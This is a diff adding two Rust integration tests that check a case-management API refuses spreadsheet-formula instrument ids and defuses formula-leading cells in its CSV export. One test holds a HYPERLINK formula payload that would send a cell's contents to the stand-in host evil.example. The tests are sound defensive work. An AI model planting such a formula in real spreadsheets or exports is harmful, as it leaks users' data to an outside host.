@@ -21,7 +21,75 @@ on_both!(
     payloads_in_every_text_field_are_stored_verbatim_and_shown_inert,
     a_practitioner_guessing_another_units_case_id_gets_404_and_the_denial_is_audited,
     staff_cannot_tell_whether_a_person_is_a_client_of_another_authority,
+    an_instrument_id_that_is_a_spreadsheet_formula_is_refused,
+    a_text_cell_starting_with_a_formula_sign_is_defused_in_the_measurements_csv,
 );
+
+/// CSV injection through the instrument id: a Questionnaire whose id is a formula is refused
+/// with 422 naming the field, and nothing is stored.
+async fn an_instrument_id_that_is_a_spreadsheet_formula_is_refused(app: &TestApp) {
+    app.toy_instrument().await;
+    let mut admin = app.api_as(Role::Admin, "SE").await;
+    let mut questionnaire = admin.get("/api/v1/instruments/toy").await.json();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Toy\")";
+    questionnaire["id"] = json!(formula);
+    let detail = admin
+        .json(Method::POST, "/api/v1/instruments", questionnaire)
+        .await
+        .assert_api_error(StatusCode::UNPROCESSABLE_ENTITY, "invalid");
+    assert!(detail.starts_with("id: "), "{detail}");
+    let listed = admin.get("/api/v1/instruments").await.json();
+    assert!(
+        listed
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|i| i["id"] != formula),
+        "{listed}"
+    );
+}
+
+/// CSV injection through any text cell: an instrument version written straight into the
+/// database (as an old row, or by someone with database access) that starts with `=` comes out
+/// of the export with a leading `'`, while a spreadsheet reads the score as a number.
+async fn a_text_cell_starting_with_a_formula_sign_is_defused_in_the_measurements_csv(
+    app: &TestApp,
+) {
+    // arrange
+    app.seed()
+        .instrument(&evident_store::testing::toy_instrument("=1+1", "Toy"))
+        .await;
+    let unit = app.unit("0380", "Beroendemottagningen").await;
+    let case = app.case(unit.as_str(), "811218-9876").await;
+    let mut api = app.api_as(Role::Practitioner, unit.as_str()).await;
+    api.json(Method::POST, &format!("/api/v1/cases/{case}/measurements"), json!({"instrument": "toy", "time_point": "baseline", "measured_on": "2026-01-12", "respondent": "staff", "answers": {"1": "1", "2": "2", "3": "0"}}))
+        .await
+        .assert_status(StatusCode::CREATED);
+
+    // act
+    let reply = api.get(&format!("/api/v1/units/{unit}/measurements")).await;
+    reply.assert_status(StatusCode::OK);
+
+    // assert: read back as a spreadsheet program's CSV reader would
+    let body = reply.body.strip_prefix('\u{feff}').expect("a BOM");
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(&rows[0][column("instrument_version")], "'=1+1");
+    assert_eq!(&rows[0][column("score")], "3");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r']),
+                "a live formula: {cell:?}"
+            );
+        }
+    }
+}
 
 /// Secrecy between authorities: the same person registered at Uppsala (0380) and at Enköping
 /// (0381) is two clients with unrelated pseudonyms; Enköping's practitioner is told nothing of
